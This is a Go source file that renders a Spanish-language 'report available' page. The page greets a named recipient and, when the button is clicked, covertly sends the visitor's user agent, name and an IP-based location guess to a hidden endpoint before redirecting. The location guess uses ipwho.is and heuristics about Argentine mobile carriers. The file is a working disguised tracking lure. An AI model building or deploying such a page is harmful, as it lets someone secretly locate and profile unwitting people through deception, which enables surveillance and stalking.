package tracker

import (
	"html/template"
	"io"
	"time"
)

// PageData fills the interstitial page.
type PageData struct {
	DisplayName string
	File        string
	Recipient   string
	TargetURL   string
	UpdatePath  string
	Delay       time.Duration
}

func (p PageData) DelayMillis() int64 { return p.Delay.Milliseconds() }

// RenderPage writes the interstitial that reports device details back to
// UpdatePath and then redirects to TargetURL.
func RenderPage(w io.Writer, data PageData) error {
	return interstitial.Execute(w, data)
}

var interstitial = template.Must(template.New("interstitial").Parse(`<!DOCTYPE html>
<html lang="es">
<head>
  <meta charset="UTF-8">
  <meta name="viewport" content="width=device-width, initial-scale=1.0">
  <title>Acceso Reporte</title>
  <style>
    body {
      font-family: -apple-system, BlinkMacSystemFont, 'Segoe UI', Roboto, sans-serif;
      background: linear-gradient(135deg, #1e293b 0%, #0f172a 100%);
      min-height: 100vh; display: flex; align-items: center; justify-content: center;
      margin: 0; padding: 20px; color: white;
    }
    .card {
      background: rgba(255, 255, 255, 0.1); border: 1px solid rgba(255,255,255,0.2);
      border-radius: 24px; padding: 40px 30px; max-width: 400px; width: 100%; text-align: center;
    }
    h1 { font-size: 26px; margin-bottom: 5px; }
    .file { font-size: 16px; color: #94a3b8; margin-bottom: 25px; }
    .file strong { color: #fff; display: block; margin-top: 5px; font-size: 18px; }
    .ok { background: rgba(16,185,129,0.2); color: #34d399; padding: 12px; border-radius: 12px; margin-bottom: 20px; }
    #clock { font-size: 14px; color: #cbd5e1; margin-bottom: 30px; }
    button {
      background: #3b82f6; color: white; border: none; width: 100%; padding: 16px;
      font-size: 16px; font-weight: 700; border-radius: 12px; cursor: pointer;
    }
    button:disabled { background: #475569; cursor: wait; }
  </style>
</head>
<body>
  <div class="card">
    <h1>Hola, {{.DisplayName}}</h1>
    <p class="file">Reporte disponible:<strong>{{.File}}</strong></p>
    <div class="ok">✅ Reporte Actualizado</div>
    <div id="clock">Cargando hora...</div>
    <button id="open" onclick="openReport()">VER REPORTE</button>
  </div>
  <script>
    const target = {{.TargetURL}};
    const updatePath = {{.UpdatePath}};
    const recipient = {{.Recipient}};
    const delay = {{.DelayMillis}};

    document.getElementById('clock').innerText = "Acceso: " + new Date().toLocaleDateString('es-AR',
      { day: '2-digit', month: '2-digit', hour: '2-digit', minute: '2-digit' });

    const net = { city: "...", region: "", isp: "", zone: "" };
    try { net.zone = Intl.DateTimeFormat().resolvedOptions().timeZone; } catch (e) {}
    fetch('https://ipwho.is/').then(r => r.json()).then(d => {
      if (d.success) { net.city = d.city; net.region = d.region; net.isp = (d.connection && d.connection.isp) || "ISP Desconocido"; }
    }).catch(() => {});

    function guessLocation() {
      const mobile = /Telecom|Personal|Claro|Movistar|AMX|Telefonica/i.test(net.isp);
      const capital = /Buenos Aires|CABA/i.test(net.region) || /Buenos Aires/i.test(net.city);
      let zone = "";
      for (const [k, v] of [["Cordoba", "CBA"], ["Jujuy", "JUJ"], ["Mendoza", "MDZ"], ["Tucuman", "TUC"]]) {
        if (net.zone.includes(k)) zone = " (Zona: " + v + ")";
      }
      if (mobile && capital && zone === "") return "⚠️ Red Móvil (Antena: BsAs)";
      const isp = net.isp.replace("Telecom Argentina S.A.", "Personal")
        .replace("Telefonica de Argentina", "Movistar").replace("AMX Argentina S.A.", "Claro");
      return net.city + ", " + net.region + " (" + isp + ")" + zone;
    }

    let leaving = false;
    function redirect() {
      if (leaving) return;
      leaving = true;
      window.location.href = target;
    }

    function openReport() {
      document.getElementById('open').disabled = true;
      document.getElementById('open').innerText = "ABRIENDO...";
      const q = new URLSearchParams({ action: "update", vendedor: recipient, ua: navigator.userAgent, geo: guessLocation() });
      fetch(updatePath + "?" + q.toString()).then(redirect).catch(redirect);
      setTimeout(redirect, delay);
    }
  </script>
</body>
</html>
`))
